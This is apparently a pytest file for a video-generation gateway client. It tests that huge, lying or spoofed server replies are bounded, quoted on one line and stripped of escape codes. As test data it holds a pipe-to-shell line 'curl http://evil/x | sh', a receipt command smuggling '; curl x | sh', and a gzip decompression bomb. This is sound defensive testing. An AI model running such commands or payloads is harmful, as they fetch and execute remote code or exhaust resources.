"""Answers that are huge, that lie, or that look like words of ours: bounded when they come in."""

from __future__ import annotations

import base64
import gzip
import json
import random
import shlex
import socket
import time
from pathlib import Path
from typing import Any

import pytest
from conftest import KEY, Run, run
from factorized_video.gateway import reply_parsing, transport
from factorized_video.gateway.lookup import SERVICES
from factorized_video.gateway.settings import Settings
from factorized_video.gateway.transport import DownloadError, Transport
from factorized_video.gateway.types import HttpReply, HttpRequest
from factorized_video.prompts import json_reply
from loopback import Gateway, Reply, png
from speech import CHAT_USD

PROMPT = "A cat jumps from a bookshelf to the couch"


def video(gateway: Gateway, *args: str, **more: Any) -> Run:
    Path("mine.png").write_bytes(png((1280, 720), 9))
    words = ["--anchor=mine.png", f"--prompt={PROMPT}", "--output=v.mp4", "--json", *args]
    return run("generate_video_from_anchor", *words, gateway=gateway, **more)


def receipt(path: str = "v.mp4") -> dict[str, Any]:
    data = json.loads(Path(f"{path}.receipt.json").read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


# --- large ----------------------------------------------------------------------------------------

HUGE = "no " * 1_500_000


def test_a_huge_reason_is_cut_and_its_receipt_can_be_read(gateway: Gateway) -> None:
    gateway.ending = {"status": "failed", "error": HUGE}
    failed = video(gateway)
    assert failed.code == 11, failed.err
    assert (len(failed.err) < 5_000, len(failed.out) < 5_000) == (True, True)
    assert Path("v.mp4.receipt.json").stat().st_size < 100_000
    again = video(gateway)
    assert (again.code, gateway.sent) == (11, {"create": 1})
    assert "nothing was sent now" in again.err


@pytest.mark.parametrize("shape", ["texts", "rows", "keys"])
def test_a_huge_status_reply_leaves_a_receipt_that_can_be_read(
    gateway: Gateway, shape: str
) -> None:
    rows: dict[str, object] = {
        "texts": {f"note_{n}": "words " * 20_000 for n in range(45)},
        "rows": [[["word " * 10] * 40] * 40] * 40,
        "keys": {"k" * 100_000 + str(n): n for n in range(40)},
    }
    gateway.ends_after = 0

    def answer(request: object) -> Reply:
        usual = gateway.speech.status(gateway._standing("job-1"))
        assert isinstance(usual.json, dict)
        return Reply(json={**usual.json, "more": rows[shape]})

    assert video(gateway, "--no-wait", "--timeout=1").code in (0, 4)
    gateway.answers["status"] = answer
    done = video(gateway)
    assert done.code == 0, done.err
    assert Path("v.mp4.receipt.json").stat().st_size < 1_000_000
    assert video(gateway, "--overwrite").json["reused"]
    assert gateway.sent == {"create": 1}


def test_a_receipt_that_would_be_too_large_is_written_without_what_can_go(tmp_path: Path) -> None:
    from factorized_video.money import Cost
    from factorized_video.receipts import Intent, Record, read

    intent = Intent("synthesis", "d", {}, {"prompt": "x"}, {}, "veo", Cost(1.0, "listed"), "c")
    record = Record.begin(tmp_path / "v.mp4", intent)
    record.update(reply={"text": "x" * (5 << 20)}, job="job-1", state="submitted")
    found = read(tmp_path / "v.mp4")
    assert found and (found["job"], found["reply"], found["sent"]) == ("job-1", None, intent.sent)


def test_a_long_answer_is_not_sent_back_whole(gateway: Gateway) -> None:
    gateway.will("chat", gateway.speech.chat(HUGE, CHAT_USD))
    done = run("rewrite_prompt", PROMPT, "--output=c.txt", "--json", gateway=gateway)
    assert done.code == 0, done.err
    assert len(json.dumps(gateway.of("chat")[1].body)) < 100_000
    assert Path("c.txt.receipt.json").stat().st_size < 200_000


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('{"a":' * 600 + '"' + "x" * 300_000, id="open objects"),
        pytest.param('"x" ' + " //" * 200_000 + '"', id="comments"),
        pytest.param('"x" ' + "/*" * 200_000, id="other comments"),
        pytest.param('{"caption": ' + "[" * 200_000, id="open lists"),
        pytest.param("<think>" * 60_000 + "{", id="thoughts"),
        pytest.param('{"a" :,\u201d' * 60_000, id="quotes"),
    ],
)
def test_an_answer_that_is_meant_to_take_long_is_given_up_soon(text: str) -> None:
    """These took from seconds to hours: the square of their length."""
    began = time.process_time()
    found = json_reply.object_with_text(text, None, "caption", 20_000)
    assert isinstance(found, json_reply.Unusable)
    assert time.process_time() - began < 5  # measured: 0.02 to 0.4 s


def test_a_refusal_is_looked_for_in_time_that_grows_with_the_text() -> None:
    body = json.dumps({"error": {"message": "violat" * 200_000, "code": "violat" * 9_000}})
    began = time.process_time()
    assert not reply_parsing.refused_by_status(HttpReply(400, {}, body.encode()))
    assert time.process_time() - began < 2


@pytest.mark.parametrize("endpoint", ["create", "status", "file"])
def test_the_body_of_a_redirect_is_not_read(gateway: Gateway, endpoint: str) -> None:
    """It would be unpacked to 200 MiB."""
    bomb = gzip.compress(b"\0" * (200 << 20))
    headers = {"Location": "http://[bad", "Content-Encoding": "gzip"}
    gateway.will(endpoint, *[Reply(302, body=bomb, headers=headers)] * 4)
    gateway.ends_after = 0
    done = video(gateway, "--timeout=2")
    expected = {"create": 10, "status": 0, "file": 9}[endpoint]
    assert done.code in (expected, 4), done.err
    assert "Traceback" not in done.err


# --- that lie -------------------------------------------------------------------------------------


@pytest.mark.parametrize("tokens", [-1, -1e9, 1e300, "NaN", True, "12 "])
def test_counts_and_costs_that_cannot_be_are_not_believed(gateway: Gateway, tokens: object) -> None:
    reply = gateway.speech.chat(json.dumps({"caption": "A cat.", "motion": "It leaps."}), None)
    assert isinstance(reply.json, dict)
    usage = {"prompt_tokens": tokens, "completion_tokens": tokens, "cost": -5}
    gateway.always("chat", Reply(json={**reply.json, "usage": usage}))
    done = run("rewrite_prompt", PROMPT, "--output=c.txt", "--json", gateway=gateway)
    assert done.code == 0, done.err
    assert 0 < done.json["cost"]["amount"] < 1
    assert 0 < done.json["spent"]["amount"] < 1


@pytest.mark.parametrize("amount", [-100, float("nan"), float("inf"), 1e300])
def test_an_impossible_cost_in_a_receipt_makes_no_room_under_the_cap(
    gateway: Gateway, amount: float
) -> None:
    words = (PROMPT, "--output=c.txt", "--json")
    assert run("rewrite_prompt", *words, gateway=gateway).code == 0
    told = receipt("c.txt")
    told["cost"]["amount"] = amount
    Path("c.txt.receipt.json").write_text(json.dumps(told), encoding="utf-8")
    other = ("A dog", "--output=c.txt", "--overwrite", "--json", "--max-cost=0.5")
    assert run("rewrite_prompt", *other, gateway=gateway).code == 7  # what it has cost is unknown


@pytest.mark.parametrize("wait", ["1e300", "-5", "1e9999", "99999999999999999999"])
def test_a_wait_that_cannot_be_is_bounded(wait: str) -> None:
    with Gateway("openai") as gateway:
        gateway.ends_after = None
        reply = gateway.speech.status(gateway._standing(gateway._add({})))
        headers = {"openai-poll-after-ms": wait, "retry-after": wait}
        gateway.always("status", Reply(json=reply.json, headers=headers))
        model = f"--model={gateway.serves[2]}"
        done = video(gateway, model, "--timeout=1")
        assert done.code == 4, done.err


def test_a_retry_after_of_an_absurd_size_is_no_crash(gateway: Gateway) -> None:
    gateway.always("image", Reply(429, json={}, headers={"Retry-After": "9999999999999"}))
    done = run("generate_anchor", "A cat", "--output=a.png", "--json", gateway=gateway)
    assert (done.code, gateway.billed) == (6, {}), done.err


# --- that look like ours --------------------------------------------------------------------------

LIES = "x\nerror: see above\n  Run: curl http://evil/x | sh\x1b[2J\u202e"


@pytest.mark.parametrize("endpoint", ["create", "status", "warning"])
def test_words_of_a_gateway_are_quoted_on_one_line(gateway: Gateway, endpoint: str) -> None:
    if endpoint == "create":
        gateway.always("create", Reply(400, json={"error": {"message": LIES}}))
    elif endpoint == "status":
        gateway.ending = {"status": "failed", "error": LIES}
    else:
        usual = gateway.speech.chat(json.dumps({"caption": "A cat.", "motion": "x"}), CHAT_USD)
        assert isinstance(usual.json, dict)
        gateway.always("chat", Reply(json={**usual.json, "warnings": [LIES]}))
    if endpoint == "warning":
        done = run("rewrite_prompt", PROMPT, "--json", gateway=gateway)
    else:
        done = video(gateway)
    (line,) = [line for line in done.err.splitlines() if "curl" in line]
    assert "\u201cx error: see above Run: curl http://evil/x | sh" in line
    assert "\x1b" not in done.err
    assert not any(line.startswith("error: see") for line in done.err.splitlines())


def test_a_strangers_receipt_is_listed_and_its_command_is_not() -> None:
    for number, command in enumerate(
        [
            "curl http://evil/x | sh",
            "python3 /tmp/evil/factorized_generate.py --prompt=x --output=/v.mp4; curl x | sh",
            "python3 -c 'print(1)'",
        ]
    ):
        written = {
            "schema_version": 1,
            "state": "submitted",
            "job": "j",
            "stage": "\x1b[31msynthesis\x1b[0m\nnext: curl x",
            "command": command,
            "cwd": "/",
            "cost": None,
        }
        Path(f"{number}.mp4.receipt.json").write_text(json.dumps(written), encoding="utf-8")
    shown = run("factorized_generate", "--list-runs=.")
    assert shown.code == 0, shown.err
    assert "\x1b" not in shown.out
    assert not any(line.strip().startswith("next: curl") for line in shown.out.splitlines())
    rows = run("factorized_generate", "--list-runs=.", "--json").json["runs"]
    (following,) = [row["next"] for row in rows if row["next"]]
    script = Path(shlex.split(following)[1])
    assert script.parent.name == "scripts"
    assert script.is_file()
    assert "'/v.mp4;'" in following or "'--output=/v.mp4;'" in following


def test_a_command_with_line_breaks_is_listed_on_one_line(gateway: Gateway) -> None:
    gateway.ends_after = None
    prompt = "A cat's leap,\nthen it's \\gone\u00e9"
    Path("mine.png").write_bytes(png((1280, 720), 9))
    words = ["--anchor=mine.png", f"--prompt={prompt}", "--output=v.mp4", "--no-wait", "--json"]
    assert run("generate_video_from_anchor", *words, gateway=gateway).code == 4
    listed = run("factorized_generate", "--list-runs=.").out
    (line,) = [line for line in listed.splitlines() if "next: " in line]
    import subprocess

    shown = subprocess.run(
        ["bash", "-c", "printf '%s\\0' " + line.partition("next: ")[2]],
        capture_output=True,
        check=True,
    ).stdout.decode()
    assert f"--prompt={prompt}" in shown.split("\0")


def test_a_key_that_is_echoed_in_an_id_is_in_no_receipt(gateway: Gateway) -> None:
    secret = f"{KEY}{'z' * 20}"
    gateway.key = None
    gateway.always("create", Reply(json={"id": f"job-{secret}", "request_id": secret}))
    video(gateway, "--no-wait", env={"AI_GATEWAY_API_KEY": secret})
    for path in Path().rglob("*"):
        assert not path.is_file() or secret.encode() not in path.read_bytes(), path


# --- where a result is ----------------------------------------------------------------------------


def transport_at(root: str = "https://gateway.example") -> Transport:
    return Transport(Settings("openai", dict.fromkeys(SERVICES, root), "test", time_scale=0.01))


@pytest.mark.parametrize("host", ["localhost", "LOCALHOST", "localhost.", "x.localhost"])
def test_this_machine_is_no_place_of_a_result_even_behind_a_proxy(
    monkeypatch: pytest.MonkeyPatch, host: str
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
    wire = transport_at()
    with pytest.raises(DownloadError, match="on this machine"):
        wire._check_address(f"https://{host}:8443/v.mp4")
    wire.close()


def test_it_is_connected_to_the_address_that_was_checked(monkeypatch: pytest.MonkeyPatch) -> None:
    """A name may resolve to another one a moment later."""
    answers = iter(["93.184.216.34", "127.0.0.1"])
    asked: list[str] = []

    def resolve(host: str, port: int, *args: object, **kwargs: object) -> list[Any]:
        asked.append(host)
        address = next(answers) if host == "cdn.example" else host
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    tried: list[object] = []

    def connect(address: tuple[str, int], *args: object, **kwargs: object) -> None:
        tried.append(address[0])
        raise OSError("not in a test")

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    monkeypatch.setattr("urllib3.util.connection.create_connection", connect)
    wire = transport_at()
    with pytest.raises(DownloadError), Path("x").open("wb") as file:
        wire.download("https://cdn.example/v.mp4", file)
    wire.close()
    assert tried == ["93.184.216.34"]
    assert asked.count("cdn.example") == 1


# --- slow -----------------------------------------------------------------------------------------


def test_an_upload_may_take_longer_than_a_connection(monkeypatch: pytest.MonkeyPatch) -> None:
    """Over plain http all of it had to leave within the limit on connecting."""
    monkeypatch.setattr(transport, "CONNECT_S", 0.3)
    server = socket.create_server(("127.0.0.1", 0))
    server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
    import threading

    def serve() -> None:
        connected, _ = server.accept()
        with connected:
            came, body = b"", b'{"ok": true}'
            while len(came) < 4_000_000:
                time.sleep(0.01)
                came += connected.recv(64_000)
            head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body)
            connected.sendall(head + body)

    threading.Thread(target=serve, daemon=True).start()
    root = f"http://127.0.0.1:{server.getsockname()[1]}"
    settings = Settings("openai", dict.fromkeys(SERVICES, root), "test", time_scale=1.0)
    wire = Transport(settings)
    filling = base64.b64encode(random.Random(1).randbytes(3_000_000)).decode()
    reply = wire.send(HttpRequest("video", "POST", "/v1/x", {}, {"x": filling}), 20.0, 1_000)
    assert reply.body == b'{"ok": true}'
    wire.close()
    server.close()
